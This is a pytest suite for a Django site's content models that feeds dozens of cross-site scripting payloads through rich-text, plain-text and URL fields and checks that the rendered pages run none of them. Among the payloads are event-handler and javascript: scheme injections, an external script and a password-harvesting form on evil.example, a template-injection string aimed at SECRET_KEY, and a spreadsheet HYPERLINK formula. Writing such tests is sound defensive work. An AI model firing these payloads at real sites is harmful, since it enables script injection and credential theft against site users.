"""Markup that wants to be more than text, in every place where staff or a bundle can put it."""

import pytest

from relations import models
from relations.models import Notice, Page, Relation, RelationLevel

from .reading import Page as Reader
from .reading import dangers

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' OnErRoR='alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A;&#x61;vascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://x/1'>x</a>",
    "<a href='https://example.org' onclick='alert(1)' target='_blank'>x</a>",
    "<a href='https://example.org' style='position:fixed;top:0;left:0;width:100%;height:100%'>x</a>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<base href='//evil.example/'>",
    "<meta http-equiv='refresh' content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div onmouseover='alert(1)'>x</div>",
    "<body onload=alert(1)>",
    "<form action='javascript:alert(1)'><button formaction='javascript:alert(1)'>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror='alert(1)'></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "<table><td background='javascript:alert(1)'>x</td></table>",
    "<h1 onclick=alert(1)>x</h1>",
    '<ul><li><a href="javascript:alert(1)//https://example.org">x</a></li></ul>',
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<p>x</p></main><script>alert(1)</script>",
    "</div></article></section><form action=//evil.example><input name=password>",
]
PLAIN = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</title><script>alert(1)</script>",
    "{{ settings.SECRET_KEY }}{% debug %}",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "]]><script>alert(1)</script>",
    "<!-- x --><svg/onload=alert(1)>",
    "\u202etxet\u202c",
    "%(name)s %s {0} %",
    '=HYPERLINK("//evil.example")',
    "\u2028alert(1)\u2029",
]


def test_there_are_enough_payloads():
    assert len(set(PAYLOADS)) >= 49
    assert len(set(PLAIN)) >= 13


FORMATS = {"p", "a", "h3", "h4", "ul", "ol", "li", "blockquote", "br", "strong", "em"}


def prose(page):
    """The elements of the page's formatted texts."""
    found, depth = set(), None
    for tag, has, outside in page.elements:
        if "prose" in (has.get("class") or "").split():
            depth = len(outside)
        elif depth is not None and len(outside) > depth:
            found.add(tag)
        else:
            depth = None
    return found


def expect_nothing_but_text(page):
    assert dangers(page, within="main") == []
    assert page.faults == []
    assert prose(page) <= FORMATS
    assert "Before." in page.main


@pytest.mark.parametrize("past_the_models", [False, True], ids=["saved", "in the database"])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_formatted_text_runs_nothing(content, get, payload, past_the_models):
    body = f"<p>Before.</p>{payload}<p>After.</p>"

    put(content.agri, "body_en", body, past_the_models)

    expect_nothing_but_text(get(content.addresses("en")["record_detail"]))


@pytest.mark.parametrize("past_the_models", [False, True], ids=["saved", "in the database"])
def test_no_formatted_text_of_any_page_runs_anything(content, get, past_the_models):
    body = "<p>Before.</p>" + "".join(PAYLOADS)
    for thing in (content.text, content.page):
        put(thing, "body_en", body, past_the_models)
    put(Relation.objects.get(pk=content.relation.pk), "summary_en", body, past_the_models)

    for name in ("relation_detail", "page_detail"):
        expect_nothing_but_text(get(content.addresses("en")[name]))


def put(thing, name, text, past_the_models):
    """Store a text as a form does, or as it could only come there past all of the site's code."""
    if past_the_models:
        type(thing).objects.filter(pk=thing.pk).update(**{name: text})
        return
    fresh = type(thing).objects.get(pk=thing.pk)
    setattr(fresh, name, text)
    fresh.save()


TEXTS = {
    "name_en",
    "title_en",
    "summary_en",
    "note_en",
    "place_en",
    "date_note_en",
    "text_en",
    "city_en",
    "address_en",
    "office_en",
    "label_en",
    "publisher_en",
    "description_en",
    "official_name_en",
    "abbreviation_en",
    "share_of_en",
    "rank_of_en",
    "correction_en",
    "quotation_en",
    "unit",
}


@pytest.mark.parametrize("payload", PLAIN)
def test_plain_text_is_text_everywhere(content, client, payload):
    for model in (
        models.Country,
        models.Sector,
        models.Organisation,
        models.Person,
        models.Record,
        models.SectorText,
        models.Mission,
        models.Source,
        models.Indicator,
        Notice,
        Page,
        models.RecordPerson,
        models.Appointment,
        models.RelationLink,
        models.ProjectValue,
        RelationLevel,
        models.Observation,
        models.Statement,
    ):
        own = {field.name for field in model._meta.concrete_fields} & TEXTS
        model.objects.update(
            **{name: payload[: model._meta.get_field(name).max_length or 999] for name in own}
        )

    for address in content.addresses("en").values():
        answer = client.get(address, follow=True)
        assert answer.status_code == 200, address
        page = Reader(answer)
        assert page.faults == [], address
        assert [one for one in dangers(page) if one != "<script>"] == [], address
        for tag in ("script", "img"):
            assert all(has["src"].startswith("/static/") for has in page.all(tag)), address
        assert "SECRET_KEY" not in page.source or "{{ settings.SECRET_KEY }}" in page.source


@pytest.mark.parametrize(
    "scheme", ["javascript:alert(1)", "data:text/html,x", "vbscript:x", " javascript:alert(1)"]
)
def test_an_address_of_another_kind_is_no_link(content, client, scheme):
    models.Source.objects.update(url=scheme, archived_url=scheme)
    models.Organisation.objects.update(url=scheme)
    models.RelationLink.objects.update(url=scheme)
    models.Mission.objects.update(url=scheme)

    for address in content.addresses("en").values():
        assert [one for one in dangers(Reader(client.get(address))) if one != "<script>"] == [], address
